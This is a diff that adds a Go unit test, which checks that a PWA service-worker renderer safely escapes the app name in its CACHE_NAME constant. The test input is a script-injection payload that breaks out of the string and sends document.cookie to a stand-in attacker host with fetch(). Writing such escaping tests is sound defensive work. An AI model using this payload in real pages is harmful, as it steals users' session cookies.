@@ -0,0 +1,28 @@
+package universalpwa
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+)
+
+func TestRenderServiceWorkerEscapesAppName(t *testing.T) {
+	malicious := "x'; fetch('https://evil.example/steal?c='+document.cookie); //"
+
+	sw := string(RenderServiceWorker(map[string]interface{}{"appName": malicious}))
+
+	firstLine, _, ok := strings.Cut(sw, "\n")
+	if !ok || !strings.HasPrefix(firstLine, "const CACHE_NAME = ") || !strings.HasSuffix(firstLine, ";") {
+		t.Fatalf("unexpected CACHE_NAME line: %q", firstLine)
+	}
+
+	literal := strings.TrimSuffix(strings.TrimPrefix(firstLine, "const CACHE_NAME = "), ";")
+
+	var decoded string
+	if err := json.Unmarshal([]byte(literal), &decoded); err != nil {
+		t.Fatalf("CACHE_NAME value %q is not a single valid JS/JSON string literal: %v", literal, err)
+	}
+	if decoded != malicious+"-v1" {
+		t.Fatalf("decoded CACHE_NAME = %q, want %q", decoded, malicious+"-v1")
+	}
+}